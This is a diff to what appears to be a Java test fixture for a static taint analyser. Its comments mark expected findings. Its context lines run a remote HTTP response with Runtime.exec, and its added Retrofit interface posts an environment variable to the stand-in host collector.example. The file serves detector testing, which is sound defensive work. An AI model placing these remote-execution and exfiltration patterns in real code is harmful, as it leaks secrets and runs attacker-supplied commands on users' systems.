@@ -5,6 +5,7 @@ import java.io.*;
 import okhttp3.*;
 import okio.*;
 import retrofit2.Retrofit;
+import retrofit2.http.*;
 
 class Ok {
     static final String U = "https://collector.example/u";
@@ -178,5 +179,19 @@ class Ok {
                 Runtime.getRuntime().exec(response.body()); //~ sink(exec.command) f25, finding(traced) f25
             }
         });
+    }
+}
+
+interface Api {
+    @POST("up") retrofit2.Call<Void> up(@Body byte[] data);
+    @GET("task") retrofit2.Call<String> task();
+    void plain(String text);
+}
+
+class Declared {
+    void up(Api api) {
+        api.up(System.getenv("T").getBytes()).execute(); //~ source(ENVIRONMENT) fretro, sink(egress.http) fretro, finding(traced) fretro, capability(NETWORK)
+        api.up("POST".getBytes()).execute(); //~ ok
+        api.plain(System.getenv("T")); //~ ok
     }
 }
